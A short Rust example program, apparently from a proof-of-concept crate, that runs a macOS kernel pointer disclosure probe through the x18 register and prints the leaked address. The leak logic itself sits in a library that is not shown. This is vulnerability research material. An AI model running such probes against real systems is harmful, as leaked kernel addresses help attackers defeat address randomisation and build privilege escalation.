//! Run the x18 disclosure probe once and print the outcome.
//!
//! ## Usage:
//!
//! ```bash
//! cargo run --example x18_leak
//! ```
//!
//! No privilege is required; the probe only queries the calling thread's
//! own saved state. On patched kernels the expected output is the
//! no-leak message. Set `RUST_LOG=debug` to see which failure kind the
//! probe hit.

#[cfg(not(target_os = "macos"))]
fn main()
{
    eprintln!("This example is macOS-only. The probe queries Mach thread state, which no other host exposes.");
    std::process::exit(1);
}

#[cfg(target_os = "macos")]
fn main()
{
    use x18leak_core::{MachThreadStateSource, RegisterLeakProbe};

    tracing_subscriber::fmt::init();

    let probe = RegisterLeakProbe::new(MachThreadStateSource);
    match probe.try_leak() {
        Ok(leaked) => {
            println!("leaked kernel pointer: {leaked}");
            println!("(the Lel0_synchronous_vector_64_long vector entry on affected builds)");
        }
        Err(err) => {
            println!("no leak available: {err}");
        }
    }
}
